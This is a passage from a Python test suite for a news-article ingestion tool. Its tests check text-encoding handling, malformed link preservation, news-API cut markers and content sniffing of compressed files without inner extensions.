    assert cafe.body == "Le café du port à Tarrow est fermé, a déclaré le maire."
    assert "“best day of the winter”" in _read("cc-news-style.warc.gz")[0][2].body  # windows-1252 named in a meta tag


@pytest.mark.issue(10)
def test_a_mangled_link_is_kept_as_written_and_names_no_outlet() -> None:
    broken, fine = _read("mangled-link.rss")[0]
    assert (broken.url, broken.outlet) == ("http://[courier.example/broken", None)
    assert (fine.url, fine.outlet) == ("https://courier.example/fine", "courier.example")


@pytest.mark.issue(10)
def test_a_news_api_cut_marker_is_not_text() -> None:
    first, _ = _read("news-api-response.json")[0]
    assert first.body.endswith("Volunteers filled sandbags") and first.outlet == "Quenby Daily"


@pytest.mark.issue(10)
def test_second_batch_text_is_decoded_as_written() -> None:
    west, cyrillic = _read("meta-vs-header.warc")[0]
    assert west.body.endswith("Café “Wendle”.") and cyrillic.body.endswith("Мост закрыт.")
    assert all(a.body.endswith("The café “reopened”.") for a in _read("cp1252-lines.jsonl")[0])
    for name in ("news-crawl.jsonl.bz2", "news-crawl-xz.jsonl.xz", "export.json.gz", "array-named.jsonl",
                 "pretty-objects.jsonl", "utf16-powershell.jsonl", "content-as-list.json"):
        first = _read(name)[0][0]
        assert first.body == SLUICE + "\n\nFarmers downstream moved their sheep to higher fields before noon.", name
    assert [str(a.published) for a in _read("micro-dates-11.warc")[0]] == ["2031-03-05"] * 3


@pytest.mark.issue(10)
def test_compressed_file_without_an_inner_extension_is_sniffed(tmp_path: Path) -> None:
    import bz2
    import gzip
    import json

    page = ("<!DOCTYPE html><html><head><title>Weir report</title></head><body><article><h1>Weir report</h1>"
            f"<p>{SLUICE}</p><p>The water board said the gates would close again on Tuesday.</p>"
            "</article></body></html>")
    files = {
        "page-dump.gz": gzip.compress(page.encode(), mtime=0),
        "lines-dump.gz": gzip.compress(b"".join(json.dumps({"title": f"T{i}", "text": SLUICE}).encode() + b"\n"
                                                for i in range(2)), mtime=0),
        "notes.bz2": bz2.compress(f"{SLUICE}\n\nThe gates close again on Tuesday.".encode()),
        "picture.gz": gzip.compress(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64, mtime=0),
    }
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    read = {name: _read_path(tmp_path / name) for name in files}
    assert [a.id for a in read["page-dump.gz"][0]] == ["page-dump"]
    assert [a.title for a in read["lines-dump.gz"][0]] == ["T0", "T1"]
    assert read["notes.bz2"][0][0].body.startswith(SLUICE)
    (refused,) = read["picture.gz"][1]
    assert refused.reason == "unsupported file type .gz (a gzip archive of a PNG image)"


def _read_path(path: Path) -> tuple[list[Article], list[Rejection]]:
    records = list(iter_inputs([path]))
    return ([r for r in records if isinstance(r, Article)], [r for r in records if isinstance(r, Rejection)])
